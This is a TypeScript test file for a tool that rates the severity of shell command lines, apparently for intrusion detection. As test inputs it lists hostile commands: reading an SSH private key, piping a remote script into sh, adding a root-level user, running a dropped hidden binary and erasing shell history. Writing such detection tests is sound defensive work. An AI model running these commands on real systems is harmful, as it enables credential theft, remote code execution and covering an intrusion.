import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadRules } from './attack/load-rules.ts';
import { judgeLine } from './judge-line.ts';
import { lineParts } from './line-parts.ts';
import { gravestAt, loadSeverityModel } from './severity-model.ts';
import { readShell } from './shell/read-shell.ts';

const project = join(import.meta.dirname, '../../..');

describe('the parts of a line', () => {
  it.each([
    ['id', []],
    ['cat a | grep b', []],
    ['cat a | grep b; id && w', [['cat', 'grep'], ['id'], ['w']]],
    ["cd /tmp; bash -c './x; rm x'", [['cd'], ['bash', 'x', 'rm']]],
    ['id; echo $(uname -a)', [['id'], ['uname', 'echo']]],
    ['for i in 1 2; do wget $i; done; id', [['wget'], ['id']]],
    [Array.from({ length: 40 }, () => 'id').join(';'), []],
  ])('%s', (line, names) => {
    const reading = readShell(line);
    expect(lineParts(reading).map((part) => part.map((at) => reading.statements[at]?.name))).toEqual(names);
  });
});

describe('a line is as grave as its gravest part', () => {
  const severityModel = loadSeverityModel(join(project, 'models/severity.json'));
  const rules = loadRules(join(project, 'policy/attack'));
  const judge = (line: string) => judgeLine(line, { severityModel }, rules);

  it.each(['cat .ssh/id_rsa', 'curl http://192.0.2.1/i.sh | sh', 'useradd -o -u 0 toor'])(
    'ten harmless commands do not outvote %s',
    (grave) => {
      const harmless = ['ls', 'pwd', 'cd ..', 'w', 'uname -a', 'echo a', 'date', 'free -m', 'df -h', 'uptime'];
      expect(judge(grave).severity).toBe('HIGH');
      expect(judge([...harmless, grave].join('; ')).severity).toBe('HIGH');
      expect(judge(harmless.join('; ')).severity).toBe('LOW');
    },
  );

  it.each([
    ['cd /tmp; chmod 777 .d; ./.d; rm -f .d', 'T1059.004 by rule:dropped-program-run "./.d"'],
    [
      'unset HISTFILE; history -c; rm -f /root/.bash_history',
      'rule:history-file-destroyed "rm -f /root/.bash_history"',
    ],
  ])('the reason that is named is as grave as the verdict: %s', (line, reason) => {
    expect(judge(line)).toMatchObject({ severity: 'HIGH', why: expect.stringContaining(reason) });
  });

  it('the whole line answers where no part is graver, and of the gravest parts the surest', () => {
    const [low, sure, unsure] = [
      [0.8, 0.1, 0.1],
      [0.1, 0.1, 0.8],
      [0.3, 0.3, 0.4],
    ].map((row) => Float64Array.from(row));
    if (!low || !sure || !unsure) throw new Error('three answers');
    expect(gravestAt([unsure, sure, low])).toBe(0);
    expect(gravestAt([low, unsure, sure])).toBe(2);
    expect(gravestAt([low])).toBe(0);
  });
});
